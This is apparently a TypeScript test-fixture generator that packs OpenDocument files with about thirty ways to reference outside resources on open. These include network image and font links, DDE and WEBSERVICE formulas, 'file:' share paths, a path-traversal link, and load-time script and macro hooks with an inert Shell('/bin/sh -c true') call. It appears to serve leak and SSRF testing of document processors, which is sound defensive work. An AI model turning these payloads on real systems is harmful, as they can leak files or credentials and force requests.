import { type LeakFile, pack, quoted, type Target } from './archive.ts';

const OASIS = 'urn:oasis:names:tc:opendocument:xmlns';
const NAMESPACES = [
  ...[
    'office',
    'style',
    'text',
    'table',
    'draw:drawing',
    'fo:xsl-fo-compatible',
    'svg:svg-compatible',
    'script',
    'form',
    'presentation',
    'meta',
  ].map((entry) => {
    const [prefix, name = prefix] = entry.split(':');
    return `xmlns:${prefix}="${OASIS}:${name}:1.0"`;
  }),
  `xmlns:of="${OASIS}:of:1.2"`,
  'xmlns:xlink="http://www.w3.org/1999/xlink"',
  'xmlns:ooo="http://openoffice.org/2004/office"',
].join(' ');

type Kind = 'text' | 'spreadsheet' | 'presentation';

export interface Document {
  readonly kind: Kind;
  readonly body: string;
  /** Before the body: fonts, scripts, styles. */
  readonly head?: string;
  readonly meta?: string;
}

const EXTENSIONS = { text: 'odt', spreadsheet: 'ods', presentation: 'odp' } as const;
const link = (url: string) =>
  `xlink:href="${quoted(url)}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"`;
const paragraph = (inner: string) => `<text:p>text ${inner}</text:p>`;
const frame = (inner: string) =>
  `<draw:frame svg:x="1cm" svg:y="1cm" svg:width="5cm" svg:height="5cm">${inner}</draw:frame>`;
const sheet = (cell: string, before = '') =>
  `${before}<table:table table:name="S"><table:table-row>${cell}</table:table-row></table:table>`;
const formula = (text: string) => sheet(`<table:table-cell table:formula="${quoted(text)}"/>`);
const slide = (inner: string) => `<draw:page draw:name="p" draw:master-page-name="m">${inner}</draw:page>`;

const LISTENER = (script: string) =>
  `<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" ${link(script)}/></office:event-listeners></office:scripts>`;

/** Ways in which an OpenDocument text, spreadsheet or presentation can refer to external files. */
export const DOCUMENTS: Readonly<Record<string, (target: Target) => Document>> = {
  picture: ({ url }) => ({ kind: 'text', body: paragraph(frame(`<draw:image ${link(url)}/>`)) }),
  'picture by a path that leaves the archive': ({ path }) => ({
    kind: 'text',
    body: paragraph(frame(`<draw:image ${link(`${'../'.repeat(20)}${path.replace(/^[\\/]+/, '')}`)}/>`)),
  }),
  'picture of a share': ({ path }) => ({
    kind: 'text',
    body: paragraph(frame(`<draw:image ${link(`file:${path.replaceAll('\\', '/')}`)}/>`)),
  }),
  object: ({ url }) => ({ kind: 'text', body: paragraph(frame(`<draw:object ${link(url)}/>`)) }),
  'ole object': ({ url }) => ({ kind: 'text', body: paragraph(frame(`<draw:object-ole ${link(url)}/>`)) }),
  'floating frame': ({ url }) => ({
    kind: 'text',
    body: paragraph(frame(`<draw:floating-frame ${link(url)}/>`)),
  }),
  plugin: ({ url }) => ({
    kind: 'text',
    body: paragraph(frame(`<draw:plugin ${link(url)} draw:mime-type="application/vnd.sun.star.media"/>`)),
  }),
  applet: ({ url }) => ({
    kind: 'text',
    body: paragraph(frame(`<draw:applet ${link(url)} draw:code="x" draw:archive="${quoted(url)}"/>`)),
  }),
  section: ({ url }) => ({
    kind: 'text',
    body: `<text:section text:name="s"><text:section-source ${link(url)}/>${paragraph('')}</text:section>`,
  }),
  'section by dde': ({ path }) => ({
    kind: 'text',
    body: `<text:section text:name="s"><office:dde-source office:dde-application="soffice" office:dde-topic="${quoted(path)}" office:dde-item="x" office:automatic-update="true"/>${paragraph('')}</text:section>`,
  }),
  'page background': ({ url }) => ({
    kind: 'text',
    head: `<office:automatic-styles><style:page-layout style:name="a"><style:page-layout-properties fo:page-width="21cm" fo:page-height="29cm"><style:background-image ${link(url)}/></style:page-layout-properties></style:page-layout></office:automatic-styles><office:master-styles><style:master-page style:name="Standard" style:page-layout-name="a"/></office:master-styles>`,
    body: paragraph(''),
  }),
  'paragraph background': ({ url }) => ({
    kind: 'text',
    head: `<office:automatic-styles><style:style style:name="P" style:family="paragraph"><style:paragraph-properties><style:background-image ${link(url)}/></style:paragraph-properties></style:style></office:automatic-styles>`,
    body: '<text:p text:style-name="P">text</text:p>',
  }),
  'list picture': ({ url }) => ({
    kind: 'text',
    head: `<office:automatic-styles><text:list-style style:name="L"><text:list-level-style-image text:level="1" ${link(url)}/></text:list-style></office:automatic-styles>`,
    body: `<text:list text:style-name="L"><text:list-item>${paragraph('')}</text:list-item></text:list>`,
  }),
  'fill picture': ({ url }) => ({
    kind: 'text',
    head: `<office:styles><draw:fill-image draw:name="F" ${link(url)}/></office:styles><office:automatic-styles><style:style style:name="G" style:family="graphic"><style:graphic-properties draw:fill="bitmap" draw:fill-image-name="F"/></style:style></office:automatic-styles>`,
    body: paragraph('<draw:rect draw:style-name="G" svg:width="5cm" svg:height="5cm"/>'),
  }),
  font: ({ url }) => ({
    kind: 'text',
    head: `<office:font-face-decls><style:font-face style:name="Leak" svg:font-family="Leak"><svg:font-face-src><svg:font-face-uri ${link(url)}><svg:font-face-format svg:string="truetype"/></svg:font-face-uri></svg:font-face-src></style:font-face></office:font-face-decls><office:automatic-styles><style:style style:name="T" style:family="text"><style:text-properties style:font-name="Leak"/></style:style></office:automatic-styles>`,
    body: paragraph('<text:span text:style-name="T">text</text:span>'),
  }),
  'form picture': ({ url }) => ({
    kind: 'text',
    body: `<office:forms><form:form form:name="f" ${link(url)}><form:image form:id="i" form:image-data="${quoted(url)}"/></form:form></office:forms>${paragraph('<draw:control draw:control="i" svg:width="5cm" svg:height="5cm"/>')}`,
  }),
  'database field': ({ url }) => ({
    kind: 'text',
    body: `<text:p><text:database-display text:database-name="${quoted(url)}" text:table-name="t" text:column-name="c">x</text:database-display></text:p>`,
  }),
  template: ({ url }) => ({
    kind: 'text',
    body: paragraph(''),
    meta: `<meta:template ${link(url)} meta:date="2001-01-01T00:00:00"/>`,
  }),
  reload: ({ url }) => ({
    kind: 'text',
    body: paragraph(''),
    meta: `<meta:auto-reload ${link(url)} meta:delay="PT0S"/>`,
  }),
  'script on load': ({ url }) => ({ kind: 'text', head: LISTENER(url), body: paragraph('') }),
  'macro on load': ({ path }) => ({
    kind: 'text',
    head: LISTENER(`vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document#${path}`),
    body: paragraph(''),
  }),
  'linked sheet': ({ url }) => ({
    kind: 'spreadsheet',
    body: `<table:table table:name="S"><table:table-source ${link(url)} table:table-name="T" table:refresh-delay="PT1S"/><table:table-row><table:table-cell/></table:table-row></table:table>`,
  }),
  'linked cells': ({ url }) => ({
    kind: 'spreadsheet',
    body: sheet(
      `<table:table-cell><table:cell-range-source ${link(url)} table:name="A1:B2" table:last-column-spanned="2" table:last-row-spanned="2"/></table:table-cell>`,
    ),
  }),
  'web service': ({ url }) => ({ kind: 'spreadsheet', body: formula(`of:=WEBSERVICE("${url}")`) }),
  'reference by address': ({ url }) => ({ kind: 'spreadsheet', body: formula(`of:=['${url}'#$S.A1]`) }),
  'dde formula': ({ path }) => ({
    kind: 'spreadsheet',
    body: formula(`of:=DDE("soffice";"${path}";"S.A1")`),
  }),
  'picture on a sheet': ({ url }) => ({
    kind: 'spreadsheet',
    body: `<table:table table:name="S"><table:shapes>${frame(`<draw:image ${link(url)}/>`)}</table:shapes><table:table-row><table:table-cell/></table:table-row></table:table>`,
  }),
  'picture on a slide': ({ url }) => ({
    kind: 'presentation',
    body: slide(frame(`<draw:image ${link(url)}/>`)),
  }),
  'sound of a slide': ({ url }) => ({
    kind: 'presentation',
    head: `<office:automatic-styles><style:style style:name="D" style:family="drawing-page"><style:drawing-page-properties presentation:transition-type="automatic"><presentation:sound ${link(url)}/></style:drawing-page-properties></style:style></office:automatic-styles>`,
    body: '<draw:page draw:name="p" draw:style-name="D" draw:master-page-name="m"/>',
  }),
  'film on a slide': ({ url }) => ({
    kind: 'presentation',
    body: slide(frame(`<draw:plugin ${link(url)} draw:mime-type="application/vnd.sun.star.media"/>`)),
  }),
};

const MACRO =
  '<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main&#10;Shell("/bin/sh -c true")&#10;End Sub</script:module>';

function parts({ kind, body, head = '', meta = '' }: Document): Readonly<Record<string, string>> {
  const type = `application/vnd.oasis.opendocument.${kind}`;
  const master = head.includes('office:master-styles')
    ? ''
    : '<office:master-styles><style:master-page style:name="m" style:page-layout-name="l"/></office:master-styles>';
  return {
    mimetype: type,
    'META-INF/manifest.xml': `<?xml version="1.0"?><m:manifest xmlns:m="${OASIS}:manifest:1.0"><m:file-entry m:full-path="/" m:media-type="${type}"/><m:file-entry m:full-path="content.xml" m:media-type="text/xml"/><m:file-entry m:full-path="styles.xml" m:media-type="text/xml"/><m:file-entry m:full-path="meta.xml" m:media-type="text/xml"/><m:file-entry m:full-path="Basic/Standard/Module1.xml" m:media-type="text/xml"/></m:manifest>`,
    'content.xml': `<?xml version="1.0"?><office:document-content ${NAMESPACES} office:version="1.3">${head.replace(/<office:(styles|master-styles)>.*?<\/office:\1>/g, '')}<office:body><office:${kind}>${body}</office:${kind}></office:body></office:document-content>`,
    'styles.xml': `<?xml version="1.0"?><office:document-styles ${NAMESPACES} office:version="1.3">${head.replace(/<office:scripts>.*<\/office:scripts>/, '')}${master}</office:document-styles>`,
    'meta.xml': `<?xml version="1.0"?><office:document-meta ${NAMESPACES} office:version="1.3"><office:meta>${meta}</office:meta></office:document-meta>`,
    'Basic/Standard/Module1.xml': MACRO,
  };
}

/** The same as one flat XML file. */
export function flat({ kind, body, head = '', meta = '' }: Document): string {
  return `<?xml version="1.0"?><office:document ${NAMESPACES} office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.${kind}"><office:meta>${meta}</office:meta>${head}<office:body><office:${kind}>${body}</office:${kind}></office:body></office:document>`;
}

/** OpenDocument texts, spreadsheets and presentations with external references. */
export const ODF_LEAKS: readonly LeakFile[] = Object.entries(DOCUMENTS).map(([name, make]) => {
  const extension = EXTENSIONS[make({ url: '', path: '' }).kind];
  return { name: `${extension}: ${name}`, extension, bytes: (target) => pack(parts(make(target))) };
});
